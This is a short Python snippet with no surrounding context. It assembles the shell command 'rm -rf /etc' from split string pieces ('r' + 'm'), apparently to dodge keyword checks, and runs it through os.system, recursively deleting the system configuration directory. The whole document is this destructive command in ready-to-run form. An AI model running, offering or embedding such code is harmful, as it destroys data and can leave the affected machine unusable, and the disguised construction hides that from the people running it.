import os
part = "r" + "m"
os.system(part + " -rf " + "/etc")
